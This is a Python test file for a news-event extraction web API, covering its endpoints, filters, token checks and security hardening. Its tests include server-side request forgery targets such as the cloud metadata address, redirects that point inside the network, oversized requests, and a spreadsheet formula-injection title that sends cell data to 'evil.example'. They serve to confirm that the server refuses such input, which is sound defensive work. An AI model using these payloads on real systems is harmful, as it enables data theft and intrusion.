"""The API over a real store, served by uvicorn on 127.0.0.1 and called over HTTP."""

from __future__ import annotations

import csv
import io
import json
from concurrent.futures import ThreadPoolExecutor

import httpx
import pytest
from serving import copy_store, example_store, pages, serve

from communique.api import ServerSettings
from communique.settings import Settings

TOKEN = "s3cret-token"


@pytest.fixture(scope="module")
def stores(tmp_path_factory):
    base = tmp_path_factory.mktemp("api")
    src = example_store(base / "examples.duckdb")
    return {name: copy_store(src, base / f"{name}.duckdb") for name in ("write", "read", "plain")}


@pytest.fixture(scope="module")
def writable(stores):
    with serve(ServerSettings(db=str(stores["write"]), token=TOKEN, allow_fetch=True, max_body=200_000)) as url:
        with httpx.Client(base_url=url, timeout=120) as client:
            yield client


@pytest.fixture(scope="module")
def no_fetch(stores):
    with serve(ServerSettings(db=str(stores["plain"]), token=TOKEN)) as url:
        with httpx.Client(base_url=url, timeout=120) as client:
            yield client


@pytest.fixture(scope="module")
def readonly(stores):
    with serve(ServerSettings(db=str(stores["read"]))) as url:
        with httpx.Client(base_url=url, timeout=120) as client:
            yield client


AUTH = {"Authorization": f"Bearer {TOKEN}"}


def items(response: httpx.Response) -> list[dict]:
    assert response.status_code == 200, response.text
    return response.json()["items"]


def test_openapi_schema_lists_every_endpoint(readonly):
    paths = readonly.get("/openapi.json").json()["paths"]
    for path in ("/api/articles", "/api/articles/{article_id}", "/api/actors", "/api/actors/{key}",
                 "/api/actors/{key}/counterparts", "/api/events", "/api/quotes", "/api/claims", "/api/places",
                 "/api/map", "/api/network", "/api/dyad", "/api/search", "/api/extract", "/api/ingest"):
        assert path in paths


def test_home_counts_what_was_ingested(readonly):
    counts = readonly.get("/api").json()["counts"]
    assert counts["articles"] == 5
    assert counts["actors"] > 20 and counts["events"] > 5


def test_articles_page_in_stable_order(readonly):
    everything = items(readonly.get("/api/articles", params={"limit": 50}))
    first = readonly.get("/api/articles", params={"limit": 2}).json()
    second = readonly.get(first["next"]).json()
    assert [a["id"] for a in first["items"] + second["items"]] == [a["id"] for a in everything[:4]]
    assert second["prev"]


def test_article_document_has_records_and_furniture(readonly):
    arts = items(readonly.get("/api/articles", params={"q": "Hamas"}))
    assert len(arts) == 1
    data = readonly.get(f"/api/articles/{arts[0]['id']}").json()
    doc = data["doc"]
    assert doc["schema"] == "communique/1"
    assert any(f["kind"] == "caption" for f in doc["article"]["furniture"])
    marzouk = [a for a in doc["actors"] if "Marzouk" in a["name"]]
    assert len(marzouk) == 1 and data["keys"][marzouk[0]["id"]]


def test_actor_search_by_alias_and_profile(readonly):
    found = items(readonly.get("/api/actors", params={"q": "Russian Federation"}))
    assert found and found[0]["country"] == "RUS"
    profile = readonly.get(f"/api/actors/{found[0]['key']}").json()
    assert profile["actor"]["name"] == "Russia"
    assert "Russian Federation" in profile["actor"]["aliases"]
    assert isinstance(profile["events"], list) and isinstance(profile["counterparts"], list)


def test_actor_quotes_claims_and_counterparts(readonly):
    key = items(readonly.get("/api/actors", params={"q": "Abu Marzouk"}))[0]["key"]
    profile = readonly.get(f"/api/actors/{key}").json()
    assert profile["quotes"], "Abu Marzouk's quotes"
    assert readonly.get(f"/api/actors/{key}/counterparts").status_code == 200


@pytest.mark.parametrize(("params", "check"), [
    ({"type": "CONSULT"}, lambda e: e["type"] == "CONSULT"),
    ({"actor": "Hamas"}, lambda e: "Hamas" in (e["source_name"] or "") + (e["target_name"] or "")
     or e["source_name"] or e["target_name"]),
    ({"quad_class": 1}, lambda e: e["quad_class"] == 1),
    ({"since": "2025-01-01", "until": "2025-12-31"}, lambda e: (e["date"] or e["published"])[:4] == "2025"),
    ({"text": "sanctions"}, lambda e: "sanction" in e["evidence"].lower()),
])
def test_event_filters(readonly, params, check):
    rows = items(readonly.get("/api/events", params={**params, "limit": 200}))
    assert rows, params
    assert all(check(e) for e in rows)


def test_event_dyad_and_place_filters(readonly):
    rows = items(readonly.get("/api/events", params={"dyad": "European Union,Belarus"}))
    assert rows and all({e["source_name"], e["target_name"]} >= {"European Union", "Belarus"} for e in rows)
    moscow = items(readonly.get("/api/events", params={"place": "Moscow"}))
    assert moscow and all(e["place"] == "Moscow" for e in moscow)


def test_events_below_the_default_confidence_are_asked_for(readonly):
    from communique.settings import MIN_CONFIDENCE

    listed = items(readonly.get("/api/events", params={"limit": 500}))
    every = items(readonly.get("/api/events", params={"limit": 500, "min_confidence": 0}))
    assert listed and all(e["confidence"] >= MIN_CONFIDENCE for e in listed)
    assert {(e["article_id"], e["id"]) for e in listed} <= {(e["article_id"], e["id"]) for e in every}


def test_csv_on_request(readonly):
    r = readonly.get("/api/events", params={"format": "csv", "limit": 5})
    assert r.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert 0 < len(rows) <= 5 and "type" in rows[0]
    r = readonly.get("/api/quotes", headers={"Accept": "text/csv"})
    assert r.headers["content-type"].startswith("text/csv")


def test_quotes_claims_places(readonly):
    assert items(readonly.get("/api/quotes", params={"speaker": "Bogdanov"}))
    assert items(readonly.get("/api/quotes", params={"text": "bread"}))
    claims = readonly.get("/api/claims", params={"stance": "support"})
    assert claims.status_code == 200
    places = items(readonly.get("/api/places"))
    assert any(p["name"] == "Moscow" for p in places)


def test_aggregates(readonly):
    network = readonly.get("/api/network").json()
    assert network["edges"] and network["nodes"]
    edge = network["edges"][0]
    dyad = readonly.get("/api/dyad", params={"a": edge["source"], "b": edge["target"], "by": "week"}).json()
    assert dyad["series"] and dyad["series"][0]["events"] >= 1
    assert readonly.get("/api/map").json()["places"]


@pytest.mark.parametrize(("path", "params", "status"), [
    ("/api/events", {"limit": 0}, 422),
    ("/api/events", {"limit": 100000}, 422),
    ("/api/events", {"type": "EXPLODE"}, 422),
    ("/api/events", {"since": "last week"}, 422),
    ("/api/events", {"min_confidence": 2}, 422),
    ("/api/claims", {"stance": "maybe"}, 422),
    ("/api/dyad", {"a": "x"}, 422),
    ("/api/articles/nonexistent", {}, 404),
    ("/api/actors/nobody-at-all", {}, 404),
])
def test_bad_parameters_get_clear_4xx(readonly, path, params, status):
    r = readonly.get(path, params=params)
    assert r.status_code == status
    assert r.json()["error"]["detail"]


def test_extract_returns_a_document_without_storing(writable):
    text = "Chile and Peru signed a fisheries agreement in Lima on Friday, officials said."
    r = writable.post("/api/extract", json={"text": text, "published": "2025-05-02"}, headers=AUTH)
    assert r.status_code == 200, r.text
    doc = r.json()
    assert doc["schema"] == "communique/1" and doc["stored"] is None
    assert {a["country"] for a in doc["actors"]} >= {"CHL", "PER"}
    assert not items(writable.get("/api/articles", params={"q": "fisheries agreement in Lima"}))


def test_writes_and_extraction_need_the_token(readonly, writable):
    body = {"articles": [{"text": "Ghana and Togo agreed to reopen their border, ministers said on Monday."}]}
    one = body["articles"][0]
    for client, status in ((readonly, 403), (writable, 401)):
        assert client.post("/api/ingest", json=body).status_code == status
        assert client.post("/api/extract", json={**one, "store": True}).status_code == status
        assert client.post("/api/extract", json=one).status_code == status  # extraction costs CPU: no strangers
        r = client.post("/api/extract", json={"url": "http://example.org/", "fetch": True})
        assert r.status_code == status and set(r.json()) == {"error"}
    wrong = {"Authorization": "Bearer wrong"}
    assert writable.post("/api/ingest", json=body, headers=wrong).status_code == 401
    assert writable.post("/api/extract", json=one, headers=wrong).status_code == 401


def test_ingest_with_token_adds_once(writable):
    body = {"articles": [{"text": "Ghana and Togo agreed to reopen their border, ministers said on Monday.",
                          "published": "2025-03-03", "title": "Border to reopen"},
                         {"text": ""}]}
    first = writable.post("/api/ingest", json=body, headers=AUTH).json()
    assert len(first["added"]) == 1 and first["errors"][0]["index"] == 1
    again = writable.post("/api/ingest", json=body, headers=AUTH).json()
    assert again["added"] == [] and again["duplicates"] == first["added"]
    assert items(writable.get("/api/articles", params={"q": "Border to reopen"}))


@pytest.mark.parametrize("url", ["http://127.0.0.1:9/", "http://10.0.0.1/", "http://169.254.169.254/latest/",
                                 "http://[::1]/", "http://localhost/", "http://100.64.0.1/", "http://198.18.0.1/",
                                 "http://[::ffff:127.0.0.1]/", "http://[fd00::1]/", "http://0.0.0.0:8000/"])
def test_server_side_fetch_never_reaches_inside(writable, url):
    r = writable.post("/api/extract", json={"url": url, "fetch": True}, headers=AUTH)
    assert r.status_code == 403
    assert "internal address" in r.json()["error"]["detail"]


def test_fetch_is_off_unless_enabled(no_fetch):
    r = no_fetch.post("/api/extract", json={"url": "http://example.org/", "fetch": True}, headers=AUTH)
    assert r.status_code == 403 and "disabled" in r.json()["error"]["detail"]


def test_oversize_body_is_rejected(writable):
    r = writable.post("/api/extract", content=b'{"text": "' + b"a" * 300_000 + b'"}',
                      headers={"Content-Type": "application/json", **AUTH})
    assert r.status_code == 413
    # a stranger's body is never read at all
    r = writable.post("/api/extract", content=b'{"text": "' + b"a" * 300_000 + b'"}',
                      headers={"Content-Type": "application/json"})
    assert r.status_code == 401


def test_reads_while_ingesting(writable):
    """Concurrent readers keep getting answers while a write runs; no request fails."""
    body = {"articles": [{"text": f"Mongolia and Kazakhstan held talks on rail links in Astana, round {n}."}
                         for n in range(3)]}

    def read(n: int) -> int:
        return writable.get("/api/events", params={"limit": 5, "offset": n % 3}).status_code

    with ThreadPoolExecutor(8) as pool:
        write = pool.submit(writable.post, "/api/ingest", json=body, headers=AUTH)
        codes = list(pool.map(read, range(80)))
        assert write.result().status_code == 200
    assert codes == [200] * 80


# -- hardening: fetches, limits, links and errors ---------------------------------------------------------

SECRET = b"<html><body><h1>Internal dashboard</h1><p>Quarterly access codes for the staff canteen.</p>" * 3


@pytest.fixture
def outside(monkeypatch):
    """A server on 127.0.0.2 that plays a host on the public internet, beside a secret one on 127.0.0.1."""
    from communique.sources import web

    real = web.is_public
    monkeypatch.setattr(web, "is_public", lambda address: address == "127.0.0.2" or real(address))
    html = {"Content-Type": "text/html; charset=utf-8"}
    with pages("127.0.0.1", {"/secret": (200, html, SECRET)}) as inside:
        teaser = ("<item><title>Canteen</title><link>" + inside + "/secret</link><description>Short teaser."
                  "</description></item>")
        feed = ('<?xml version="1.0"?><rss version="2.0"><channel><title>Wire</title><link>{base}</link>'
                f"<description>d</description>{teaser}</channel></rss>").encode()
        routes = {
            "/to-inside": (302, {"Location": f"{inside}/secret"}, b""),
            "/to-ftp": (301, {"Location": "ftp://127.0.0.1/secret"}, b""),
            "/to-loopback6": (307, {"Location": "http://[::1]:9/secret"}, b""),
            "/to-bad-url": (302, {"Location": "http://[::1/"}, b""),
            "/feed.rss": (200, {"Content-Type": "application/rss+xml"}, feed),
            "/story": (200, html, b"<html><body><article><p>" + b"Mongolia and Kazakhstan agreed on a rail link "
                       b"in Astana on Monday, the two foreign ministries said. " * 4 + b"</p></article></body></html>"),
        }
        with pages("127.0.0.2", routes) as out:
            yield out


@pytest.mark.parametrize(("path", "problem"), [
    ("/to-inside", "internal address (127.0.0.1) (redirected to http://127.0.0.1:"),
    ("/to-ftp", "only http(s) URLs can be fetched (redirected to ftp://127.0.0.1/secret)"),
    ("/to-loopback6", "internal address (::1)"),
])
def test_a_redirect_inside_is_refused_and_nothing_stored(writable, outside, path, problem):
    r = writable.post("/api/extract", json={"url": outside + path, "fetch": True, "store": True}, headers=AUTH)
    assert r.status_code == 403, r.text
    assert problem in r.json()["error"]["detail"]
    r = writable.post("/api/ingest", json={"articles": [{"url": outside + path, "fetch": True}]}, headers=AUTH)
    assert r.status_code == 200 and r.json()["added"] == [] and problem in r.json()["errors"][0]["error"]
    assert not items(writable.get("/api/articles", params={"q": "canteen"}))


def test_an_allowed_fetch_still_works(writable, outside):
    r = writable.post("/api/extract", json={"url": outside + "/story", "fetch": True}, headers=AUTH)
    assert r.status_code == 200, r.text
    assert r.json()["article"]["url"] == outside + "/story"


def test_feed_links_are_not_followed_unless_asked(writable, outside):
    r = writable.post("/api/extract", json={"url": outside + "/feed.rss", "fetch": True}, headers=AUTH)
    assert r.status_code == 200, r.text
    assert r.json()["article"]["text"] == "Short teaser."  # the entry's own text, its link left alone
    r = writable.post("/api/extract", json={"url": outside + "/feed.rss", "fetch": True, "follow_links": True},
                      headers=AUTH)
    assert r.status_code == 403 and "internal address (127.0.0.1)" in r.json()["error"]["detail"]


def test_a_malformed_url_is_a_4xx(writable, outside):
    r = writable.post("/api/extract", json={"url": "http://[::1/", "fetch": True}, headers=AUTH)
    assert r.status_code == 422 and "bad URL" in r.json()["error"]["detail"]
    r = writable.post("/api/extract", json={"url": outside + "/to-bad-url", "fetch": True}, headers=AUTH)
    assert r.status_code == 422 and "bad URL" in r.json()["error"]["detail"]


LISTINGS = ["/api/articles", "/api/actors", "/api/events", "/api/quotes", "/api/claims", "/api/places",
            "/articles", "/events"]


@pytest.mark.parametrize("path", LISTINGS)
@pytest.mark.parametrize("offset", ["99999999999999999999", "-1", "1e3"])
def test_an_absurd_offset_is_a_422(readonly, path, offset):
    r = readonly.get(path, params={"offset": offset})
    assert r.status_code == 422, r.text
    assert "offset" in r.json()["error"]["detail"]


@pytest.mark.parametrize("path", ["/articles", "/events", "/"])
def test_pages_stay_html_whatever_the_client_accepts(readonly, path):
    r = readonly.get(path, headers={"Accept": "text/csv"})
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/html")


def test_every_error_has_the_one_shape(readonly, writable):
    json_type = {"Content-Type": "application/json"}
    cases = [(readonly.get("/nowhere"), 404), (readonly.get("/api/nowhere"), 404),
             (readonly.get("/events", params={"since": "last week"}), 422),
             (writable.delete("/api/events", headers=AUTH), 405), (writable.put("/api/extract", headers=AUTH), 405),
             (readonly.post("/api/ingest", content=b"{not json", headers=json_type), 403),
             (writable.post("/api/ingest", content=b"{not json", headers=json_type), 401),
             (writable.post("/api/ingest", content=b"{not json", headers={**json_type, **AUTH}), 422),
             (writable.post("/api/ingest", json={"articles": "none"}, headers=AUTH), 422),
             (readonly.get("/api/events", params={"limit": "many"}), 422)]
    for r, status in cases:
        assert r.status_code == status, (r.request.url, r.text)
        assert r.headers["content-type"] == "application/json"
        assert r.json() == {"error": {"status": status, "detail": r.json()["error"]["detail"]}}
        assert r.json()["error"]["detail"]
    assert "GET" in writable.delete("/api/events", headers=AUTH).headers["allow"]


def test_a_crash_is_a_500_in_the_shape_without_a_traceback(stores, monkeypatch):
    from communique.store import Store

    with serve(ServerSettings(db=str(stores["read"]))) as url:
        def broken(self, *args, **kwargs):
            raise RuntimeError("secret internals at /srv/db")

        monkeypatch.setattr(Store, "counts", broken)
        for accept in ("application/json", "text/html"):
            r = httpx.get(url + "/api", headers={"Accept": accept})
            assert r.status_code == 500
            assert r.json() == {"error": {"status": 500, "detail": "internal error; the server log has the details"}}
            assert "Traceback" not in r.text and "secret internals" not in r.text
        page = httpx.get(url + "/", headers={"Accept": "text/html"})
        assert page.status_code == 500 and "secret internals" not in page.text and "<h1>500</h1>" in page.text


def raw(base: str, request: bytes) -> bytes:
    """Send bytes over one connection and read the whole answer (the server closes it)."""
    import socket

    host, port = base.removeprefix("http://").rsplit(":", 1)
    with socket.create_connection((host, int(port)), timeout=20) as sock:
        sock.sendall(request)
        answer = b""
        while chunk := sock.recv(65536):
            answer += chunk
    return answer


@pytest.mark.parametrize(("request_bytes", "status"), [
    (b"GET /api/events?text=" + b"a" * 150_000 + b" HTTP/1.1\r\nHost: x\r\n\r\n", 414),
    (b"GET /api/events?text=" + b"a" * 2_000_000 + b" HTTP/1.1\r\nHost: x\r\n\r\n", 414),
    (b"GET /api HTTP/1.1\r\nHost: x\r\nX-Big: " + b"a" * 150_000 + b"\r\n\r\n", 431),
    (b"GET /api HTTP/1.1\r\nHost: x\r\n" + b"".join(b"X-%d: a\r\n" % n for n in range(20_000)) + b"\r\n", 431),
    (b"NONSENSE\r\n\r\n", 400),
])
def test_an_oversized_or_malformed_request_head_is_answered(readonly, request_bytes, status):
    answer = raw(str(readonly.base_url).rstrip("/"), request_bytes)
    head, _, body = answer.partition(b"\r\n\r\n")
    assert head.startswith(b"HTTP/1.1 %d " % status), head[:200]
    assert json.loads(body)["error"]["status"] == status
    assert readonly.get("/api").status_code == 200  # and the server is still there


def test_a_chunked_body_is_cut_off_at_the_limit(writable):
    """--max-body counts the bytes as they stream: a chunked body gets 413 long before it ends."""
    import select
    import socket

    host, port = str(writable.base_url).removeprefix("http://").rstrip("/").rsplit(":", 1)
    sent, answer = 0, b""
    with socket.create_connection((host, int(port)), timeout=20) as sock:
        sock.sendall(b"POST /api/extract HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                     b"Authorization: Bearer " + TOKEN.encode() + b"\r\nTransfer-Encoding: chunked\r\n\r\n")
        chunk = b'{"text": "' + b"a" * 65_526
        while sent < 500_000_000 and not answer:
            try:
                sock.sendall(b"%x\r\n%s\r\n" % (len(chunk), chunk))
            except OSError:
                break
            sent += len(chunk)
            chunk = b"a" * 65_536
            if select.select([sock], [], [], 0)[0]:
                answer = sock.recv(65536)
        while b"}}" not in answer and (more := sock.recv(65536)):
            answer += more
    assert answer.startswith(b"HTTP/1.1 413 "), answer[:200]
    assert b'"detail": "request body over 200,000 bytes"' in answer
    assert sent < 50_000_000  # what the kernel buffers, not what the client meant to send
    assert writable.get("/api").status_code == 200


def test_a_client_still_uploading_reads_its_answer(writable):
    """The server refuses and closes while the client is still sending: the close lingers, so no reset."""
    def body():
        for _ in range(200):
            yield b"x" * 65_536

    def upload(n: int) -> int:
        headers = {"Content-Type": "application/json", **(AUTH if n % 2 else {})}
        with httpx.Client(base_url=writable.base_url, timeout=60) as client:  # a connection each, as strangers have
            r = client.post("/api/ingest", content=body(), headers=headers)
        return r.json()["error"]["status"]

    with ThreadPoolExecutor(8) as pool:
        assert sorted(set(pool.map(upload, range(48)))) == [401, 413]


def test_a_body_with_a_false_length_is_cut_off_too(writable):
    r = writable.post("/api/extract", content=b'{"text": "' + b"a" * 300_000 + b'"}', headers={
        **AUTH, "Content-Type": "application/json"})
    assert r.status_code == 413 and r.json()["error"]["detail"] == "request body over 200,000 bytes"


def test_text_is_capped_in_characters(stores):
    with serve(ServerSettings(db=str(stores["plain"]), token=TOKEN, pipeline=Settings(max_chars=500))) as url:
        text = "Chile and Peru signed a fisheries agreement in Lima on Friday, officials said. " * 8
        r = httpx.post(url + "/api/extract", json={"text": text}, headers=AUTH)
        assert r.status_code == 422 and "characters of text, over the limit of 500 characters" in r.text
        r = httpx.post(url + "/api/ingest", json={"articles": [{"text": text}, {"text": text[:400]}]},
                       headers=AUTH, timeout=60)
        assert r.status_code == 200 and len(r.json()["added"]) == 1 and r.json()["errors"][0]["index"] == 0


def test_a_lone_surrogate_in_a_json_body_is_no_500(writable):
    body = b'{"text": "\\ud800 Ghana and Togo agreed on Monday to reopen their border.", "title": "A \\udfff"}'
    r = writable.post("/api/extract", content=body, headers={**AUTH, "Content-Type": "application/json"})
    assert r.status_code == 200, r.text
    assert r.json()["article"]["text"].startswith("\ufffd") and r.json()["article"]["title"] == "A \ufffd"
    r = writable.post("/api/ingest", content=b'{"articles": [' + body + b"]}",
                      headers={**AUTH, "Content-Type": "application/json"})
    assert r.status_code == 200 and len(r.json()["added"]) == 1
    r = writable.post("/api/extract", content=b'{"\\udc00": 1}', headers={**AUTH, "Content-Type": "application/json"})
    assert r.status_code == 422


def test_an_impossible_publication_date_is_a_422(writable):
    r = writable.post("/api/extract", json={"text": "Ghana and Togo met.", "published": "9999-12-31"}, headers=AUTH)
    assert r.status_code == 422 and "published" in r.json()["error"]["detail"]


def test_a_store_that_cannot_be_written_answers_503(stores, tmp_path):
    from communique.api import create_app

    db = copy_store(stores["plain"], tmp_path / "s.duckdb")
    app = create_app(ServerSettings(db=str(db), token=TOKEN))
    app.state.store._con.execute("CHECKPOINT")
    (tmp_path / "s.duckdb.wal").mkdir()  # the write-ahead log cannot be created
    with serve(app) as url:
        body = {"articles": [{"text": "Ghana and Togo agreed to reopen their border, ministers said on Monday."}]}
        r = httpx.post(url + "/api/ingest", json=body, headers=AUTH, timeout=60)
        assert r.status_code == 503, r.text
        assert "cannot write" in r.json()["error"]["detail"] and "rollback" not in r.text
        assert httpx.get(url + "/api").status_code == 200  # reads go on


def test_csv_cells_cannot_run_as_formulas(writable):
    title = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    body = {"articles": [{"text": "Ghana and Togo signed a trade accord in Accra on Monday, officials said.",
                          "title": title, "published": "2025-03-04"}]}
    assert writable.post("/api/ingest", json=body, headers=AUTH).status_code == 200
    r = writable.get("/api/articles", params={"q": "trade accord in Accra", "format": "csv"})
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert [row["title"] for row in rows] == ["'" + title]
    assert items(writable.get("/api/articles", params={"q": "trade accord in Accra"}))[0]["title"] == title


@pytest.mark.parametrize("path", ["/", "/events", "/docs", "/api", "/api/events", "/static/style.css", "/nowhere"])
def test_every_response_carries_the_security_headers(readonly, path):
    r = readonly.get(path, headers={"Accept": "text/html"})
    csp = r.headers["content-security-policy"]
    assert "default-src 'none'" in csp and "script-src" not in csp and "frame-ancestors 'none'" in csp
    assert r.headers["x-content-type-options"] == "nosniff"
    assert r.headers["referrer-policy"] == "no-referrer"


def test_docs_work_offline(readonly):
    r = readonly.get("/docs")
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/html")
    for path in ("/api/events", "/api/extract", "/api/ingest", "ArticleIn"):
        assert path in r.text
    assert "<script" not in r.text and "cdn" not in r.text.lower()
    assert "src=\"http" not in r.text and "href=\"http" not in r.text
    assert readonly.get("/redoc").status_code == 404
    assert readonly.get("/openapi.json").json()["paths"]


def test_a_text_over_a_million_characters_costs_only_itself(stores, tmp_path):
    """Issue 13, item 2, through the API: the runner refuses it in one line and the batch goes on."""
    huge = ("The council met again on Tuesday and the talks went on into the night. " * 14 + "\n\n") * 1010
    assert len(huge) > 1_000_000
    good = "Ghana and Togo agreed to reopen their border, ministers said on Monday."
    db = copy_store(stores["plain"], tmp_path / "s.duckdb")
    with serve(ServerSettings(db=str(db), token=TOKEN, max_body=3_000_000)) as url:
        with httpx.Client(base_url=url, timeout=300, headers=AUTH) as client:
            r = client.post("/api/extract", json={"text": huge, "store": True})
            assert r.status_code == 422 and "\n" not in r.json()["error"]["detail"]
            assert "characters of text, over the limit of 1,000,000 characters" in r.json()["error"]["detail"]
            r = client.post("/api/ingest", json={"articles": [{"text": good}, {"text": huge},
                                                              {"text": good.replace("Ghana", "Benin")}]})
            assert r.status_code == 200, r.text
            assert len(r.json()["added"]) == 2 and [e["index"] for e in r.json()["errors"]] == [1]
            assert client.get("/api").json()["counts"]["articles"] == 7
